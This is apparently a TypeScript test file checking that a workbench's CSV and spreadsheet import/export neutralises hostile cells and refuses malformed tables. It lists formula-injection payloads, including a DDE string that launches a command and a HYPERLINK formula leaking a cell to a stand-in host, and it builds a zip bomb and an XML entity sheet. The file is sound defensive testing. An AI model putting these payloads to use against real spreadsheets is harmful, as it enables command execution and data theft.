import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { afterAll, describe, expect, test } from 'vitest'
import { exportDocuments } from '../../electron/export/index.ts'
import { xlsxFile } from '../../electron/export/tables.ts'
import { readTable } from '../../electron/import/table.ts'
import { responses } from '../../electron/import/tables.ts'
import { execute } from '../../shared/execute.ts'
import type { ExportFormat } from '../../shared/exports.ts'
import { DP255, SAMPLE_AUTHOR } from '../../shared/sample/facts.ts'
import { dp255Workspace } from '../../shared/sample/index.ts'
import { entriesOf } from '../../shared/tracing/entries.ts'
import { RESPONSE_COLUMNS } from '../../shared/tracing/tables.ts'
import { applyPatches, type Workspace } from '../../shared/workspace.ts'

const folder = mkdtempSync(join(tmpdir(), 'workbench-tables-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** What cells have been seen to do harm with, or to come back changed by. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+447700900000',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1',
  '\r=1',
  '\n=1',
  "'=already guarded",
  "''=twice",
  '＝1+1',
  'a,b;c\td|e',
  '"quoted" and ""twice""',
  'two\r\nlines\nand\rmore',
  ' spaces ',
  '<script>alert(1)</script> & "x"',
  '001',
  '1e5',
  'TRUE',
  '2024-01-09',
  '9/1/2024',
  '_x000D_ _x0041_',
  '﻿mark',
  'עברית 😀 e\u0301',
  '\u202egnp.exe',
  '#REF!',
  'null',
  '__proto__',
  'constructor',
]
/** Text files hold these; a spreadsheet cannot say them in any other way than escaped. */
const CONTROL = ['bell \u0007', 'tab\u000b', 'lone \ud800 half']

function rowsOf(count: number, cells: readonly string[]): readonly (readonly string[])[] {
  return Array.from({ length: count }, (_, row) =>
    RESPONSE_COLUMNS.map((column, at) =>
      column === 'Party' ? `Party ${row + 1}` : (cells[(row * 3 + at * 5) % cells.length] ?? ''),
    ),
  )
}

function fieldsOf(workspace: Workspace): readonly (readonly string[])[] {
  return entriesOf(workspace, 'response', DP255).map((response) => [
    response.party,
    response.category,
    response.question,
    response.view,
    response.extract,
    response.disposition,
    response.clause,
    response.reply,
  ])
}

async function take(path: string): Promise<Workspace> {
  const workspace = dp255Workspace()
  const read = await responses.read({ path, workspace, modification: undefined, label: undefined })
  if (!read.ok) throw new Error(read.error.message)
  expect(read.value.open).toBe(0)
  const { name, args } = read.value.command
  const seed = 'tables-001'
  const ran = execute(workspace, {
    name,
    args,
    author: SAMPLE_AUTHOR,
    at: '2024-02-01T10:00:00Z',
    seed,
  })
  if (!ran.ok) throw new Error(ran.error.message)
  return applyPatches(workspace, ran.value.patches)
}

async function give(workspace: Workspace, format: ExportFormat): Promise<string> {
  const done = await exportDocuments(
    workspace,
    { modification: DP255, formats: [format] },
    join(folder, 'out'),
    () => Promise.reject(new Error('Nothing is printed here.')),
  )
  if (!done.ok) throw new Error(done.error.message)
  expect(done.value.failed).toEqual([])
  return done.value.written[0] ?? ''
}

describe('five hundred responses with hostile cells', () => {
  test('go in and out of comma-separated text unchanged and harmless', async () => {
    const rows = rowsOf(500, HOSTILE)
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`
    const text = [RESPONSE_COLUMNS, ...rows].map((row) => row.map(quoted).join(',')).join('\r\n')
    const path = join(folder, 'responses.csv')
    writeFileSync(path, text)
    const workspace = await take(path)
    // A sign that somebody else put an apostrophe before has lost it: so it is read everywhere.
    const read = rows.map((row) => row.map((cell) => cell.replace(/^'('*[=])/, '$1')))
    expect(fieldsOf(workspace)).toEqual(read)
    const written = await give(workspace, 'responses.csv')
    const bytes = readFileSync(written, 'utf8')
    expect(bytes).not.toMatch(/(^|,)"[=+\-@\t\r\n＝]/m)
    const again = await take(written)
    expect(fieldsOf(again)).toEqual(fieldsOf(workspace))
    expect(readFileSync(await give(again, 'responses.csv'), 'utf8')).toBe(bytes)
  })

  test('go out to a spreadsheet and in again unchanged, with no formula in it', async () => {
    const made = await xlsxFile('Hostile', [
      { title: 'Responses', header: RESPONSE_COLUMNS, rows: rowsOf(500, [...HOSTILE, ...CONTROL]) },
    ])
    const path = join(folder, made.name)
    writeFileSync(path, made.content)
    const workspace = await take(path)
    expect(fieldsOf(workspace)).toEqual(rowsOf(500, [...HOSTILE, ...CONTROL]))
    const again = await take(await give(workspace, 'responses.xlsx'))
    expect(fieldsOf(again)).toEqual(fieldsOf(workspace))
  }, 60_000)
})

describe('tables that are refused', () => {
  async function refused(name: string, bytes: Uint8Array | string): Promise<string> {
    const path = join(folder, name)
    writeFileSync(path, bytes)
    const read = await readTable(path)
    return read.ok ? 'read' : read.error.message
  }
  const sheet = (xml: string) =>
    zipSync({
      'xl/worksheets/sheet1.xml': strToU8(xml),
      '[Content_Types].xml': strToU8('<Types/>'),
    })

  test('a bomb, before it goes off', async () => {
    const bomb = zipSync(
      { 'xl/worksheets/sheet1.xml': new Uint8Array(200 * 1024 * 1024) },
      { level: 9 },
    )
    expect(bomb.length).toBeLessThan(1024 * 1024)
    const before = process.cpuUsage()
    expect(await refused('bomb.xlsx', bomb)).toContain('larger than 64 MB when unpacked')
    // Of the processor, so that a machine with much to do says the same; in microseconds.
    const { user, system } = process.cpuUsage(before)
    expect(user + system).toBeLessThan(5_000_000)
  })

  test('a cell at the far corner, which a reader would fill the plane to', async () => {
    const far =
      '<worksheet><sheetData><row r="1048576"><c r="XFD1048576"/></row></sheetData></worksheet>'
    expect(await refused('far.xlsx', sheet(far))).toContain('has a cell in row 1048576')
    const wide = '<worksheet><sheetData><row r="1"><c r="XFD1"/></row></sheetData></worksheet>'
    expect(await refused('wide.xlsx', sheet(wide))).toContain('has a cell in column XFD')
  })

  test('entities, other formats, and what is no table', async () => {
    expect(await refused('entity.xlsx', sheet('<!DOCTYPE x [<!ENTITY a "b">]><x/>'))).toContain(
      'defines entities',
    )
    expect(await refused('locked.xlsx', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1]))).toContain(
      'protected by a password',
    )
    expect(await refused('fake.xlsx', 'no zip at all')).toContain('is not a spreadsheet')
    expect(await refused('old.xls', 'x')).toContain('is not a table that can be read')
    expect(await refused('binary.csv', 'a,b\0c')).toContain('is not text')
    expect(await refused('empty.csv', '')).toContain('holds no table')
    expect(await refused('quotes.csv', 'Party\n"never closed')).toContain(
      'is opened and not closed',
    )
    expect(await refused('many.csv', 'Party\n'.repeat(20_002))).toContain('has 20002 rows')
    expect(await refused('large.csv', 'x'.repeat(20 * 1024 * 1024 + 1))).toContain(
      'larger than 20 MB',
    )
  })

  test('a text of Windows is read, with a word about it', async () => {
    const path = join(folder, 'windows.csv')
    writeFileSync(path, Buffer.from('Party,View\nCaf\xe9 \xa3,Yes\n', 'latin1'))
    expect(await readTable(path)).toMatchObject({
      ok: true,
      value: {
        sheets: [
          {
            cells: [
              ['Party', 'View'],
              ['Café £', 'Yes'],
            ],
          },
        ],
        note: expect.stringContaining('Windows-1252'),
      },
    })
  })
})

test('a table without its columns is refused by their names', async () => {
  const path = join(folder, 'columns.csv')
  writeFileSync(path, 'Something,Else\n1,2\n')
  const workspace = dp255Workspace()
  const read = await responses.read({ path, workspace, modification: 'DP255', label: undefined })
  expect(read).toMatchObject({
    ok: false,
    error: { message: expect.stringContaining('no column for: Party') },
  })
})
